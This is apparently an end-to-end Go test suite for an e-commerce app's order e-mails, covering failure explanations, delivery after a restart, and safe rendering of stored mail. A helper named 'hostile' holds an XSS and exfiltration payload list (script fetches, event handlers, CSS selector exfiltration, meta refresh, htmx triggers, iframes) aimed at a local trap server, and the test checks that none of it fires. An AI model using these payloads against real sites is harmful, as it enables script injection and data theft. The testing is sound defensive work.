package e2e

import (
	"bytes"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"

	"github.com/kartify/kartify/e2e/browser"
	"github.com/kartify/kartify/mail/sink"
	"github.com/kartify/kartify/models"
	"github.com/kartify/kartify/models/cast"
)

// withPost is a world with a mail server that behaves as the demo's does.
func withPost(t *testing.T) (*world, *sink.Sink) {
	t.Helper()
	post, err := sink.Start("127.0.0.1:0", "", sink.Behave)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = post.Close() })
	return newWorld(t, "KARTIFY_SMTP_URL="+post.URL(), "KARTIFY_MAIL_FROM=orders@ruosh.example"), post
}

// tellMail puts in the orders around e-mails and waits until every one is decided.
func (w *world) tellMail() {
	w.t.Helper()
	if err := cast.Mail(w.ctx, w.db, time.Now()); err != nil {
		w.t.Fatal(err)
	}
	w.eventually("5", `SELECT count(*) FROM emails WHERE order_id BETWEEN 1031 AND 1036 AND state NOT IN ('queued', 'sending')`)
}

func TestBrokenOrdersSayWhy(t *testing.T) {
	t.Parallel()
	w, post := withPost(t)
	w.tellMail()
	manager := w.signIn("manager@ruosh.example")
	seen := map[string]int64{}
	for _, tt := range []struct {
		order                    int64
		check, result, said, row string
	}{
		{1013, "partner_order", "failed", "no partner order ID", ""},
		{1032, "store_id", "failed", "store_ID 0; the store is 40", "not_sent store_zero"},
		{1033, "webhook", "failed", "No webhook of Fynd has named this order", ""},
		{1034, "accepted", "failed", "550 5.1.1 No such mailbox here", "failed refused"},
		{1035, "accepted", "unknown", "did not say whether it takes it", "unknown no_answer"},
		{1036, "store_id", "failed", "store_ID 41; the store is 40", "not_sent store_wrong"},
		{1031, "", "", "accepted the e-mail for ishaan.mehta@mail.example", "sent"},
	} {
		onOrder := manager.get(fmt.Sprintf("/sales/orders/%d", tt.order)).page()
		pages := map[string]*goquery.Selection{"order": onOrder.Find("#emails .mail-chain")}
		if tt.row != "" {
			w.eventually(tt.row, `SELECT trim(state || ' ' || cause) FROM emails WHERE order_id = $1`, tt.order)
			path, found := onOrder.Find("#emails .mails a").Attr("href")
			if !found {
				t.Errorf("order %d shows no e-mail", tt.order)
				continue
			}
			pages["e-mail"] = manager.get(path).page().Find("#why .mail-chain")
		}
		for page, chain := range pages {
			broken := chain.Find("[data-check]").FilterFunction(func(_ int, s *goquery.Selection) bool {
				return s.AttrOr("data-result", "") != "passed"
			}).First()
			if got := broken.AttrOr("data-check", "") + " " + broken.AttrOr("data-result", ""); strings.TrimSpace(got) != strings.TrimSpace(tt.check+" "+tt.result) {
				t.Errorf("order %d, on the page of the %s: %q, want %q", tt.order, page, got, tt.check+" "+tt.result)
			}
			if text := chain.Find(".banner").Text(); !strings.Contains(text, tt.said) {
				t.Errorf("order %d, on the page of the %s: %q, want %q", tt.order, page, text, tt.said)
			}
		}
		seen[pages["order"].Find(".banner p").Text()] = tt.order
	}
	if len(seen) != 7 {
		t.Errorf("%d explanations for seven orders: %v", len(seen), seen)
	}
	for _, nobody := range []string{"kavya.nair@mail.example", "zoya.khan@mail.example", "rehan.ali@mail.example"} {
		if n := len(post.To(nobody)); n != 0 {
			t.Errorf("%s got %d e-mails", nobody, n)
		}
	}
	if n := len(post.To("mitali.sen@silence.example")); n != 1 {
		t.Errorf("the silent mail server was given %d e-mails, want 1", n)
	}
	got := post.To("ishaan.mehta@mail.example")
	var raw []byte
	w.scan(&raw, `SELECT raw FROM emails WHERE order_id = 1031`)
	if len(got) != 1 || !bytes.Equal(got[0].Raw, raw) {
		t.Errorf("%d e-mails arrived, or others than the stored one", len(got))
	}
	if file := manager.get(fmt.Sprintf("/system/tools/emails/%d/message.eml", w.number(`SELECT id FROM emails WHERE order_id = 1031`))); file.text != string(raw) {
		t.Error("the .eml file is not what was handed over")
	}
}

func (w *world) number(sql string, args ...any) (n int64) {
	w.t.Helper()
	w.scan(&n, sql, args...)
	return n
}

// hostile is what an attacker would like a mail, a name or a webhook to do; trap is theirs.
func hostile(trap string) string {
	return strings.ReplaceAll(`"><script>window.pwned=1;fetch("TRAP/script")</script><img src="TRAP/img" onerror="window.pwned=1"><svg onload="window.pwned=1">
<meta http-equiv="refresh" content="0;url=TRAP/refresh"><link rel="stylesheet" href="TRAP/css"><style>@import "TRAP/import"; body{background:url(TRAP/bg)}
input[value^="a"]{background:url(TRAP/exfil)} @font-face{font-family:x;src:url(TRAP/font)} *{font-family:x}</style><input value="a">
<div hx-get="TRAP/hx" hx-trigger="load" data-hx-get="TRAP/hx" data-hx-trigger="load"></div><iframe src="TRAP/frame"></iframe><object data="TRAP/object"></object>
<video poster="TRAP/poster" src="TRAP/video"></video><form id="f" action="TRAP/form"><button formaction="TRAP/form"></form><base href="TRAP/"><a ping="TRAP/ping" href="TRAP/a">x</a>
<link rel="prefetch" href="TRAP/prefetch"><link rel="preconnect" href="TRAP"><body onload="window.pwned=1">`, "TRAP", trap)
}

func TestMailsRunNothingAndFetchNothing(t *testing.T) {
	t.Parallel()
	b := browser.Start(t)
	if b == nil {
		return
	}
	w, post := withPost(t)
	var hits atomic.Int64
	trap := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { hits.Add(1) }))
	t.Cleanup(trap.Close)
	evil := hostile(trap.URL)

	// The trap works: the same mail in a page without our headers springs it.
	bare := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) {
		rw.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprint(rw, "<!DOCTYPE html><body>"+evil)
	}))
	t.Cleanup(bare.Close)
	control := b.Tab(t)
	control.Allow("") // it complains of much
	control.Open(bare.URL)
	time.Sleep(500 * time.Millisecond)
	if hits.Load() < 3 {
		t.Fatalf("the trap was sprung %d times by an open page; it proves nothing", hits.Load())
	}
	hits.Store(0)

	// Hostile values in what the e-mail is written from, and in the webhook.
	meera := cast.MailOrder{Order: cast.Orders(time.Now())[0], StoreID: cast.Ruosh}
	if _, err := w.db.Pool().Exec(w.ctx, `UPDATE orders SET customer_name = $1, payment_method = $1, company = $1 WHERE id = 1001`, evil); err != nil {
		t.Fatal(err)
	}
	if _, err := w.db.Pool().Exec(w.ctx, `UPDATE order_items SET name = $1, sku = $1 WHERE order_id = 1001`, evil); err != nil {
		t.Fatal(err)
	}
	if _, err := w.db.Pool().Exec(w.ctx, `UPDATE stores SET name = $1 WHERE id = 40`, evil); err != nil {
		t.Fatal(err)
	}
	if err := meera.Tell(w.ctx, w.db); err != nil {
		t.Fatal(err)
	}
	w.eventually("sent", `SELECT state FROM emails WHERE order_id = 1001`)
	escaped := w.number(`SELECT id FROM emails WHERE order_id = 1001`)
	var html string
	w.scan(&html, `SELECT html_body FROM emails WHERE id = $1`, escaped)
	if doc, err := goquery.NewDocumentFromReader(strings.NewReader(html)); err != nil || doc.Find("script, iframe, img, svg, link, form, object, base, [hx-get]").Length() != 0 {
		t.Errorf("the e-mail holds elements of the attacker (%v)", err)
	}

	// And a mail that holds them unescaped, as if somebody else had written it.
	var foreign int64
	w.scan(&foreign, `INSERT INTO emails (store_id, order_id, partner_order_id, kind, webhook_id, event, occurrence, state, recipient, sender, subject, html_body, text_body, message_id, raw, answer, server, why, written_at)
		VALUES (40, 1001, 'FY1', 'event', -1, 'ORDER_PLACED', 'another', 'sent', 'x@mail.example', $1::text, $1, $1, $1, 'evil@x', convert_to($1, 'UTF8'), $1, $1, $1, now()) RETURNING id`, evil)

	tab := b.Tab(t)
	tab.Allow("Content Security Policy") // of the e-mail's own document, which asks in vain
	tab.Allow("sandboxed")
	w.open(tab, "owner@ruosh.example", "/profile")
	box := fmt.Sprintf("%s/system/tools/emails/", w.base)
	for _, url := range []string{
		w.base + "/sales/orders/1001", fmt.Sprintf("%s%d", box, escaped), fmt.Sprintf("%s%d/body", box, escaped), fmt.Sprintf("%s%d", box, foreign),
		fmt.Sprintf("%s%d/body", box, foreign), fmt.Sprintf("%s%d/text", box, foreign), w.base + "/system/emails", w.base + "/sales/orders",
	} {
		tab.Open(url)
		time.Sleep(300 * time.Millisecond) // for what would come by itself
		if browser.Eval[bool](tab, `window.pwned === 1`) {
			t.Errorf("%s ran a script of the attacker", url)
		}
		if got := tab.URL(); got != url {
			t.Errorf("%s was led to %s", url, got)
		}
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("%d requests left for the attacker", n)
	}
	if shown := browser.Eval[string](tab, fmt.Sprintf(`fetch(%q).then(r => r.headers.get("content-security-policy"))`, fmt.Sprintf("/system/tools/emails/%d/body", foreign))); !strings.HasPrefix(shown, "sandbox; default-src 'none'; img-src data:; style-src 'unsafe-inline'") {
		t.Errorf("the body's policy is %q", shown)
	}
	page := httptest.NewServer(post.Handler()) // the demo's mail server shows the same mails
	t.Cleanup(page.Close)
	tab.Open(page.URL + "/_sink/1")
	time.Sleep(300 * time.Millisecond)
	if n := hits.Load(); n != 0 || browser.Eval[bool](tab, `window.pwned === 1`) {
		t.Errorf("the mail server's page: %d requests left", n)
	}
}

// A mail server that takes the message and is silent is not given it again, also when kartify is killed and started.
func TestSilentMailServerAcrossARestart(t *testing.T) {
	t.Parallel()
	w, post := withPost(t)
	w.tellMail()
	w.stop(9)
	w.start()
	time.Sleep(time.Second) // five sweeps
	if n := len(post.To("mitali.sen@silence.example")); n != 1 {
		t.Errorf("%d e-mails arrived, want 1", n)
	}
	if n := len(post.To("ishaan.mehta@mail.example")); n != 1 {
		t.Errorf("%d e-mails arrived, want 1", n)
	}
	if got := w.number(`SELECT count(*) FROM emails WHERE state = $1`, models.EmailUnknown); got != 1 {
		t.Errorf("%d e-mails are of unknown outcome, want 1", got)
	}
}
